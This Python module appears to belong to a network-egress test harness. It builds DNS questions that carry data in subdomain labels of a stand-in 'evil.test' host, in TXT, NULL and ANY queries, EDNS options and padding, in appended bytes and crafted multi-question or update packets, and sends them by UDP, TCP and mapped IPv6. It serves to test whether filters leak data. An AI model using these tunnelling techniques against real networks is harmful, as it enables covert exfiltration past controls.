"""Questions to the resolver that carry data, as a name or next to one."""
import socket
from technique import technique, variants
from wire import edns_option, question, sized

NAME = 'allowed.test'
QUESTIONS = {
    'forbidden': lambda a: question(f'{a.mark}.evil.test'),
    'below_allowed': lambda a: question(f'{a.mark}.{NAME}'),
    'text': lambda a: question(f'{a.mark}.{NAME}', 16),
    'null': lambda a: question(f'{a.mark}.{NAME}', 10),
    'any': lambda a: question(f'{a.mark}.evil.test', 255),
    'reverse': lambda a: question(f'{a.mark}.in-addr.arpa', 12),
    'option': lambda a: question(NAME, more=edns_option(a.data)),
    'padding': lambda a: question(NAME, more=edns_option(a.data, 12)),
    'after': lambda a: question(NAME) + a.data,
    'two_questions': lambda a: b'\x12\x34\1\0\0\2' + question(NAME)[6:] + question(f'{a.mark}.evil.test')[12:],
    'update': lambda a: b'\0\1\x28' + question(f'{a.mark}.evil.test')[3:],
    'search_domain': lambda a: question(f'{a.mark}.{NAME}.local'),
}


@variants('dns', QUESTIONS)
def dns(a, make):
    s = a.socket()
    text = make(a)
    yield
    s.sendto(text, (a.resolver, 53))
    yield
    s.sendto(text, (a.resolver, 53))


@variants('dns', {name: QUESTIONS[name] for name in ('forbidden', 'below_allowed', 'text', 'option', 'after')})
def dns_tcp(a, make):
    s = a.tcp()
    s.settimeout(1)
    text = make(a)
    yield
    s.connect((a.resolver, 53))
    s.sendall(sized(text))
    yield
    s.settimeout(0.3)
    s.recv(1000)


@technique('dns')
def dns_connected_elsewhere(a):
    """The proxy's answer is not wanted: what counts is whether the question leaves for the address."""
    s = a.socket()
    s.connect((a.own, 53))
    yield
    s.send(question(f'{a.mark}.evil.test'))


@technique('dns', families=(4,))
def dns_mapped(a):
    s = a.socket(af=socket.AF_INET6)
    yield
    s.sendto(question(f'{a.mark}.evil.test'), ('::ffff:' + a.own, 53))
